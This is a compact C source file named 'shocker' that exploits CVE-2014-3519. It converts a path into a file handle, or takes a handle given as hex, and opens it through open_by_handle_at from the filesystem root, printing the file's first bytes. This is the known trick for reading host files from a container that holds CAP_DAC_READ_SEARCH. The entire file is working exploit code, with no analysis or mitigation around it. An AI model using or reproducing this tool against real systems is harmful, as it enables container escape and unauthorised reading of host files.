/* SPDX-License-Identifier: MIT */
/* shocker TYPE HEX: open a file by its handle, from any mount of its filesystem
 * that we have, and show it (CVE-2014-3519). shocker FILE: its handle. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct {
	unsigned bytes;
	int type;
	unsigned char v[128];
} handle = {.bytes = 128};

int main(int argc, char **argv)
{
	char text[64];
	int id, fd, root, n;

	if (argc == 2) {
		if (syscall(SYS_name_to_handle_at, AT_FDCWD, argv[1], &handle,
		            &id, 0))
			return 1;
		printf("%d ", handle.type);
		for (unsigned i = 0; i < handle.bytes; i++)
			printf("%02x", handle.v[i]);
		printf("\n");
		return 0;
	}
	handle.type = atoi(argv[1]);
	handle.bytes = strlen(argv[2]) / 2;
	for (unsigned i = 0; i < handle.bytes; i++)
		sscanf(argv[2] + 2 * i, "%2hhx", &handle.v[i]);
	root = open("/", O_RDONLY);
	fd = syscall(SYS_open_by_handle_at, root, &handle, O_RDONLY);
	n = fd < 0 ? 0 : read(fd, text, sizeof(text));
	if (n > 0)
		write(1, text, n);
	return 0;
}
